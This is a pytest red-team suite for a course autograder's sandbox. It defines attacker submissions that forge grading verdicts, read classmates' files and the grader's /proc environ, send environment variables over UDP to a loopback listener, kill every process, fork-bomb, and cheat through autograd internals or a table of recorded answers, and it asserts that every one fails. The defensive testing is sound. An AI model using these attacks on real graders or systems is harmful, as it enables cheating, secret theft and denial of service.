"""The red team: a class of attackers graded beside honest students, in every setting CI can make.

Each attacker is a ch1_sensitivity.py whose functions are stubs (or reach the answer by a
forbidden route) and whose import runs an attack of threat model (grading/__init__.py). An
attempt that works prints "ESCAPED:<what>"; the grader's guarantees say none can. Asserted for
every setting:
- every attacker scores zero, and no output anywhere says ESCAPED;
- the honest students keep every point, and two runs give the same grades;
- nothing was written outside the submission's own process, nothing was received on the
  loopback listeners the test opened, no secret of the grader's reached a report, and no
  process an attacker started outlives the grader.

Settings: root with bubblewrap's namespaces (this machine, CI), root without namespaces (a
container without CAP_SYS_ADMIN, as on Gradescope: `Setting.detect(namespaces=False)`, and
once for real under `capsh --drop=cap_sys_admin`), and an unprivileged user (setpriv).
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from grading import cases, rubric
from grading.isolation import UID_BASE, Setting
from grading.limits import Limits
from grading.processes import zygote_processes
from grading.submissions import discover
from kit.implementation import Implementation
from kit.registry import get

ROOT = Path(__file__).resolve().parents[2]
SOLUTION = (ROOT / "solutions" / "ch1_sensitivity.py").read_text()
SECRET_ENV = "KIT_REDTEAM_SECRET"
SECRET = "grader-secret-5d1c9e"
CLASSMATE_MARK = "classmate-mark-8f2a"
EXERCISES = ["ch1_sensitivity.scale_sensitivity", "ch1_sensitivity.numeric_sensitivity"]

STUB = '''
def scale_sensitivity(x, k):
    raise NotImplementedError

def numeric_sensitivity(f, x, h=1e-5):
    raise NotImplementedError
'''

# every attack runs `attempt(name, action)`: an action that returns without raising escaped
HEAD = '''
import ctypes, gc, glob, os, signal, socket, sys, time
import torch

def attempt(name, action):
    try:
        result = action()
    except BaseException as error:
        return
    if result is not False:
        print("ESCAPED:" + name, flush=True)
'''


def attack(body: str, functions: str = STUB) -> str:
    return HEAD + textwrap.dedent(body) + "\n" + textwrap.dedent(functions)


def open_write(path):
    return f"lambda: open({path!r}, 'w').write('x')"


def attackers(out: Path, cache: Path, tcp: int, udp: int) -> dict[str, str]:
    """student -> source; `out` the grade book, `cache` the input cache, tcp/udp loopback ports."""
    return {
        # 1. a forged verdict: every batch answered "passed", with no answers or too many
        "forge_passed": attack('''
            wire = sys.modules["grading.wire"]
            real = wire.dumps
            def forged(obj):
                if isinstance(obj, dict) and "seq" in obj and "answers" in obj:
                    obj = {"seq": obj["seq"], "answers": [], "stop": {"status": "passed", "text": ""}}
                return real(obj)
            wire.dumps = forged
            '''),
        "forge_many": attack('''
            wire = sys.modules["grading.wire"]
            real = wire.dumps
            def forged(obj):
                if isinstance(obj, dict) and "answers" in obj:
                    obj = {"seq": obj["seq"], "answers": [[3.0, None]] * 100000, "stop": None}
                return real(obj)
            wire.dumps = forged
            '''),
        "forge_huge": attack('''
            wire = sys.modules["grading.wire"]
            real = wire.dumps
            def forged(obj):
                if isinstance(obj, dict) and "answers" in obj:
                    return b'{"seq": %d, "answers": [' % obj["seq"] + b"[1.0, null]," * 20000000 + b"[1.0, null]]}"
                return real(obj)
            wire.dumps = forged
            '''),
        # 2. out of the sandbox: the grader's processes, other students, files, the network
        "reach": attack(f'''
            def connect_unix():
                for line in open("/proc/net/unix").read().splitlines()[1:]:
                    path = line.split()[-1] if len(line.split()) > 7 else ""
                    if path.startswith(("/", "@")):
                        s = socket.socket(socket.AF_UNIX)
                        try:
                            s.connect(path.replace("@", "\\0", 1))
                            return True
                        except OSError:
                            pass
                return False
            attempt("unix", connect_unix)
            attempt("socketpair", lambda: socket.socketpair())
            attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {tcp}), timeout=1))
            attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                repr(dict(os.environ)).encode()[:1000], ("127.0.0.1", {udp})))
            attempt("ptrace", lambda: ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 or False)
            attempt("kill-parent", lambda: os.kill(os.getppid(), 0))
            attempt("kill-init", lambda: os.kill(1, 0))
            attempt("setuid-root", lambda: os.setuid(0))
            attempt("realtime", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)))
            attempt("nice", lambda: os.nice(-5) < 0 or False)
            attempt("unshare", lambda: ctypes.CDLL(None).unshare(0x10000000) == 0 or False)

            def inherited():  # fds 0-2 and the socket to the grader are all a child may hold
                held = []
                for fd in range(3, 1024):
                    try:
                        os.fstat(fd)
                        held.append(fd)
                    except OSError:
                        pass
                print("HELD", held, "UID", os.getuid(), os.getgid(), os.getgroups(), flush=True)
                return len(held) > 1 or False
            attempt("inherited-descriptors", inherited)
            '''),
        "thief": attack(f'''
            def read(pattern):
                for path in glob.glob(pattern) + [pattern.replace("s*", f"s{{i:05d}}") for i in range(40)]:
                    if os.path.dirname(path) == here:
                        continue  # its own folder
                    try:
                        text = open(path).read()
                    except OSError:
                        continue
                    print("READ", path, text[:200], flush=True)
                    return True
                return False
            here = os.getcwd()
            attempt("solutions", lambda: read({str(ROOT / "solutions" / "*.py")!r}))
            attempt("kit", lambda: read({str(ROOT / "kit" / "chapters" / "*.py")!r}))
            attempt("classmate", lambda: read(os.path.join(os.path.dirname(here), "s*", "ch1_sensitivity.py")))
            attempt("grader-environ", lambda: read("/proc/" + str(os.getppid()) + "/environ"))
            attempt("proc-environ", lambda: read("/proc/1/environ"))
            attempt("cache", lambda: read({str(cache / "*" / "*")!r}))
            print("ENV", dict(os.environ), flush=True)
            '''),
        "writer": attack(f'''
            here = os.getcwd()
            attempt("own-folder", {open_write("evil-own")})
            attempt("work", lambda: open(os.path.join(os.path.dirname(here), "evil-work"), "w").write("x"))
            def append_to_classmates():
                written = 0
                for i in range(40):  # the grader's folder names can be guessed, if not listed
                    try:
                        written += open(os.path.join(os.path.dirname(here), f"s{{i:05d}}", "ch1_sensitivity.py"),
                                        "a").write("x = 1")
                    except OSError:
                        pass
                return written > 0 or False
            attempt("classmate", append_to_classmates)
            attempt("tmp", {open_write("/tmp/evil-tmp")})
            attempt("out", lambda: os.makedirs({str(out / "evil")!r}))
            attempt("cache", lambda: os.makedirs({str(cache / "evil")!r}))
            attempt("disk", lambda: open("/dev/shm/evil", "wb").write(b"x" * 10**8))
            '''),
        # 3. autograd by other routes, and the kit's own references
        "engine": attack('''
            def engine_grad(x, k):
                t = torch.tensor(x, dtype=torch.float64)
                t.requires_grad_(True)
                out = k * t
                engine = torch.autograd.graph.Node.__module__ and torch._C._ImperativeEngine()
                return engine.run_backward((out,), (torch.ones_like(out),), False, False, (t,), False, False)[0].item()
            ''', '''
            def scale_sensitivity(x, k):
                return engine_grad(x, k)

            def numeric_sensitivity(f, x, h=1e-5):
                t = torch.tensor(x, dtype=torch.float64, requires_grad=True)
                y = f(t)
                return y.grad_fn(torch.ones_like(y))[0].item()
            '''),
        "references": attack('''
            def find():
                for obj in gc.get_objects():
                    if callable(obj) and getattr(obj, "__name__", "") == "scale_sensitivity" \\
                            and getattr(obj, "__module__", "").startswith("kit"):
                        return obj
                import kit.chapters.ch1_sensitivity as chapter
                return chapter.scale_sensitivity
            attempt("kit-reference", lambda: print("found", find()))
            ''', '''
            def scale_sensitivity(x, k):
                return find()(x, k)

            def numeric_sensitivity(f, x, h=1e-5):
                import kit.registry
                return kit.registry.EXERCISES["ch1_sensitivity.numeric_sensitivity"].reference(f, x, h)
            '''),
        # 4. one student stopping the class, and limits across processes
        "killer": attack('''
            attempt("kill-all", lambda: os.kill(-1, signal.SIGKILL))
            attempt("kill-group", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL))
            '''),
        "linger": attack('''
            r, w = os.pipe()
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(600)
                os._exit(0)
            time.sleep(0.2)
            '''),
        "fork_hog": attack('''
            children = []
            for _ in range(4):
                pid = os.fork()
                if pid == 0:
                    try:
                        block = bytearray(700 * 2**20)
                        for i in range(0, len(block), 4096):
                            block[i] = 1
                        time.sleep(60)
                    finally:
                        os._exit(0)
                children.append(pid)
            time.sleep(3)
            '''),
        "fork_bomb": attack('''
            for _ in range(200):
                try:
                    if os.fork() == 0:
                        time.sleep(30)
                        os._exit(0)
                except OSError:
                    break
            '''),
    }


HONEST = {
    "honest": SOLUTION + f"\n# {CLASSMATE_MARK}\n",
    "honest_too": SOLUTION.replace("return float(k)", "return k * 1.0") + f"\n# {CLASSMATE_MARK}\n",
}


class Listener:
    """A TCP and a UDP socket on loopback that record whatever reaches them while the class is graded."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.received: list[str] = []
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            for receive in (lambda: self.tcp.accept(), lambda: self.udp.recvfrom(65536)):
                try:
                    self.received.append(repr(receive())[:200])
                except OSError:
                    pass

    def close(self):
        self.stop = True
        self.thread.join(5)
        self.tcp.close()
        self.udp.close()


def make_class(root: Path, out: Path, cache: Path, listener: Listener) -> Path:
    submissions = root / "class"
    for student, source in {**HONEST, **attackers(out, cache, listener.tcp.getsockname()[1],
                                                   listener.udp.getsockname()[1])}.items():
        (submissions / student).mkdir(parents=True)
        (submissions / student / "ch1_sensitivity.py").write_text(source)
    return submissions


def grade_in_process(submissions: Path, setting: Setting, cache: Path) -> list:
    from grading.grader import grade_submissions

    students, _ = discover(submissions)
    limits = Limits(timeout=5.0, memory=1 << 30, processes=32)
    return grade_submissions(students, rubric.load(None), limits, 2, cache=cache, exercises=EXERCISES,
                             setting=setting)


SETTINGS = {
    "namespaces": lambda: Setting.detect(),
    "no-namespaces": lambda: Setting.detect(namespaces=False),
}


@pytest.fixture(scope="module", params=list(SETTINGS))
def graded(request, tmp_path_factory):
    setting = SETTINGS[request.param]()
    if request.param == "namespaces" and not setting.bwrap:
        pytest.skip("bubblewrap cannot make namespaces on this machine (.ci/run installs it)")
    root = tmp_path_factory.mktemp(f"redteam-{request.param}")
    out, cache = root / "out", root / "cache"
    out.mkdir()
    cache.mkdir()
    listener = Listener()
    submissions = make_class(root, out, cache, listener)
    os.environ[SECRET_ENV] = SECRET
    try:
        first = grade_in_process(submissions, setting, cache)
        second = grade_in_process(submissions, setting, cache)
    finally:
        del os.environ[SECRET_ENV]
        time.sleep(0.5)
        listener.close()
    return {"setting": setting, "first": first, "second": second, "root": root, "out": out, "cache": cache,
            "received": listener.received, "submissions": submissions}


def everything_said(result) -> str:
    parts = [result.problem, *result.import_output.values()]
    for r in result.results:
        parts += [r.feedback, r.output]
    return "\n".join(parts)


def test_every_attacker_scores_zero_and_nothing_escaped(graded):
    for result in graded["first"]:
        said = everything_said(result)
        assert "ESCAPED" not in said, (result.student, said)
        if result.student not in HONEST:
            assert result.score == 0, (result.student, [(r.exercise, r.status, r.feedback[:300])
                                                        for r in result.results])


def test_honest_students_keep_every_point_and_runs_agree(graded):
    scores = {r.student: r.score for r in graded["first"]}
    for student in HONEST:
        assert scores[student] == 2, [(r.exercise, r.status, r.feedback[:300])
                                      for s in graded["first"] if s.student == student for r in s.results]
    again = {r.student: (r.score, [x.status for x in r.results]) for r in graded["second"]}
    assert {r.student: (r.score, [x.status for x in r.results]) for r in graded["first"]} == again


def test_forged_replies_are_not_believed(graded):
    by_student = {r.student: r for r in graded["first"]}
    for student in ("forge_passed", "forge_many", "forge_huge"):
        statuses = {r.status for r in by_student[student].results}
        assert "passed" not in statuses, (student, statuses)


def test_autograd_by_other_routes_and_the_kits_references_score_nothing(graded):
    by_student = {r.student: r for r in graded["first"]}
    for student in ("engine", "references"):
        assert {r.status for r in by_student[student].results} <= {"autograd", "error", "crashed", "wrong"}, \
            [(r.status, r.feedback[:200]) for r in by_student[student].results]


def test_no_secret_reaches_a_report_and_nothing_reached_loopback(graded):
    for result in graded["first"]:
        said = everything_said(result)
        assert SECRET not in said, result.student
        if result.student not in HONEST:
            assert CLASSMATE_MARK not in said, result.student
            assert "Reference solutions" not in said, result.student
    assert graded["received"] == []


def test_as_root_each_student_runs_as_a_user_of_its_own(graded):
    if not graded["setting"].root:
        pytest.skip("only a root grader has users to give")
    said = everything_said(next(r for r in graded["first"] if r.student == "reach"))
    uid = int(said.split("UID ", 1)[1].split()[0])
    assert uid >= UID_BASE and "[]" in said.split("UID ", 1)[1].split("\n")[0]  # no supplementary group


def test_a_table_of_recorded_answers_passes_the_rehearsal_but_not_the_grading(tmp_path):
    """The attack on derandomized inputs: record what the public profile asks, answer from a table.
    It answers every rehearsal input right, and fails the inputs of the course's seed."""
    exercise = get("ch1_sensitivity.scale_sensitivity")
    rehearsal = cases.record(exercise)  # what `pytest --hypothesis-profile grading` asks
    graded = cases.record(exercise, cases.load_seed())
    examples = len(exercise.examples)
    assert [repr(a) for a in graded.inputs[:examples]] == [repr(a) for a in rehearsal.inputs[:examples]]
    drawn = {repr(a) for a in graded.inputs[examples:]}
    shared = drawn & {repr(a) for a in rehearsal.inputs[examples:]}  # simple values both may try: 0.0, -0.5
    assert len(shared) < len(drawn) / 2, (len(shared), len(drawn))
    table = {repr(args): answer for args, answer in zip(rehearsal.inputs, rehearsal.expected)}
    folder = tmp_path / "class" / "table"
    folder.mkdir(parents=True)
    (folder / "ch1_sensitivity.py").write_text(
        f"TABLE = {table!r}\n\ndef scale_sensitivity(x, k):\n    return TABLE.get(repr((x, k)), 0.5)\n"
        f"\ndef numeric_sensitivity(f, x, h=1e-5):\n    raise NotImplementedError\n")
    module = Implementation(folder).module("ch1_sensitivity")
    assert all(module.scale_sensitivity(*args) == answer for args, answer in zip(rehearsal.inputs, rehearsal.expected))
    result = grade_in_process(folder.parent, Setting.detect(), tmp_path / "cache")[0]
    scale = next(r for r in result.results if r.exercise == exercise.id)
    assert scale.status == "wrong", scale.feedback


def test_nothing_was_written_and_nothing_outlives_the_grader(graded):
    assert list(graded["out"].iterdir()) == []
    assert not (graded["cache"] / "evil").exists()
    assert not Path("/tmp/evil-tmp").exists()
    assert not Path("/dev/shm/evil").exists()
    for student in HONEST:
        assert CLASSMATE_MARK in (graded["submissions"] / student / "ch1_sensitivity.py").read_text()
        assert "x = 1" not in (graded["submissions"] / student / "ch1_sensitivity.py").read_text()
    assert zygote_processes() == []


def test_the_setting_is_stated_before_grading(graded):
    lines = graded["setting"].lines()
    assert len(lines) == 5 and all(isinstance(line, str) and line for line in lines)
    if graded["setting"].bwrap is None:
        assert any(line.startswith("namespaces (bubblewrap): no") for line in lines)


CAPSH = shutil.which("capsh")


@pytest.mark.skipif(os.geteuid() != 0 or CAPSH is None,
                    reason="simulating a container needs root and capsh (libcap2-bin, on Debian by default)")
def test_a_container_without_cap_sys_admin_grades_and_says_what_holds(tmp_path):
    """`kit grade` itself, run as root with CAP_SYS_ADMIN dropped from every set, as Gradescope does."""
    submissions = tmp_path / "class"
    for student, source in {"honest": SOLUTION, "reach": attackers(tmp_path / "out", tmp_path / "cache", 9, 9)["reach"],
                            "forge_passed": attackers(tmp_path, tmp_path, 9, 9)["forge_passed"]}.items():
        (submissions / student).mkdir(parents=True)
        (submissions / student / "ch1_sensitivity.py").write_text(source)
    out = tmp_path / "out"
    command = [CAPSH, "--drop=cap_sys_admin", "--", "-c",
               f"exec {sys.executable} -m kit.cli grade {submissions} --out {out} --only 1 -j 1 --timeout 5"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=600,
                          env=dict(os.environ, XDG_CACHE_HOME=str(tmp_path / "cache")))
    assert done.returncode == 0, done.stderr[-3000:]
    assert "where the students' code runs" in done.stderr
    assert "namespaces (bubblewrap): no" in done.stderr  # the container setting, said before grading
    grades = (out / "grades.csv").read_text()
    rows = {line.split(",")[0]: line for line in grades.splitlines()[1:]}
    assert rows["honest"].split(",")[1] == "2" and rows["reach"].split(",")[1] == "0"
    assert rows["forge_passed"].split(",")[1] == "0"
    reports = "".join(p.read_text() for p in out.rglob("results.json"))
    assert "ESCAPED" not in reports


def _other_user_can_run_python() -> bool:
    probe = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable,
                            "-c", "import torch"], capture_output=True)
    return probe.returncode == 0


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("setpriv") is None,
                    reason="becoming an unprivileged user needs root and setpriv (util-linux)")
def test_an_unprivileged_user_grades_with_the_same_guarantees():
    """`kit grade` as an instructor's own unprivileged user (uid 65534 here), with user namespaces."""
    tmp_path = Path(tempfile.mkdtemp(prefix="kit-redteam-user-"))  # pytest's own tmp folders are root's, 0700
    try:
        unprivileged_class(tmp_path)
    finally:
        shutil.rmtree(tmp_path, ignore_errors=True)


def unprivileged_class(tmp_path: Path) -> None:
    if not _other_user_can_run_python():
        pytest.fail("another user cannot run this Python (is it below a 0700 home? .ci/run opens /root "
                    "for traversal so that this setting can be tested)")
    os.chmod(tmp_path, 0o777)
    submissions = tmp_path / "class"
    listener = Listener()
    try:
        sources = {**HONEST, **{k: v for k, v in attackers(tmp_path / "out", tmp_path / "cache",
                                                          listener.tcp.getsockname()[1],
                                                          listener.udp.getsockname()[1]).items()
                                 if k in ("reach", "thief", "writer", "killer", "linger", "forge_passed")}}
        for student, source in sources.items():
            (submissions / student).mkdir(parents=True)
            (submissions / student / "ch1_sensitivity.py").write_text(source)
        subprocess.run(["chown", "-R", "65534:65534", str(tmp_path)], check=True)
        out = tmp_path / "out"
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all",
                   sys.executable, "-m", "kit.cli", "grade", str(submissions), "--out", str(out), "--only", "1",
                   "-j", "1", "--timeout", "5"]
        done = subprocess.run(command, capture_output=True, text=True, timeout=600, cwd=tmp_path,
                              env=dict(os.environ, HOME=str(tmp_path), XDG_CACHE_HOME=str(tmp_path / "cache"),
                                       XDG_CONFIG_HOME=str(tmp_path / "config"), **{SECRET_ENV: SECRET}))
    finally:
        time.sleep(0.5)
        listener.close()
    assert done.returncode == 0, done.stderr[-3000:]
    assert "students run as the grader's own user" in done.stderr
    results = {p.parent.name: json.loads(p.read_text()) for p in out.rglob("results.json")}
    text = json.dumps(results)
    assert "ESCAPED" not in text and SECRET not in text
    grades = {line.split(",")[0]: line.split(",")[1] for line in (out / "grades.csv").read_text().splitlines()[1:]}
    assert grades["honest"] == "2" and grades["honest_too"] == "2"
    assert all(grades[s] == "0" for s in sources if s not in HONEST), grades
    assert listener.received == []
    assert zygote_processes() == []


def test_a_stopped_grader_leaves_no_process_behind(tmp_path):
    """SIGTERM (what the Gradescope runtime sends at its deadline) in the middle of a hang: kit grade
    stops, and every zygote and student process ends with it."""
    submissions = tmp_path / "class"
    for student in ("a", "b"):
        (submissions / student).mkdir(parents=True)
        (submissions / student / "ch1_sensitivity.py").write_text(
            "import time\n\ndef scale_sensitivity(x, k):\n    time.sleep(600)\n\n"
            "def numeric_sensitivity(f, x, h=1e-5):\n    time.sleep(600)\n")
    grader = subprocess.Popen([sys.executable, "-m", "kit.cli", "grade", str(submissions), "--out",
                               str(tmp_path / "out"), "--only", "1", "-j", "2", "--timeout", "300", "-q"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 120
    while len(zygote_processes()) < 4 and time.monotonic() < deadline:  # two zygotes, two students
        time.sleep(0.5)
    assert len(zygote_processes()) >= 4, "the students never started"
    grader.terminate()
    _, errors = grader.communicate(timeout=60)
    assert grader.returncode != 0 and "interrupted" in errors, errors[-2000:]
    time.sleep(1)
    assert zygote_processes() == []
    assert not (tmp_path / "out").exists()
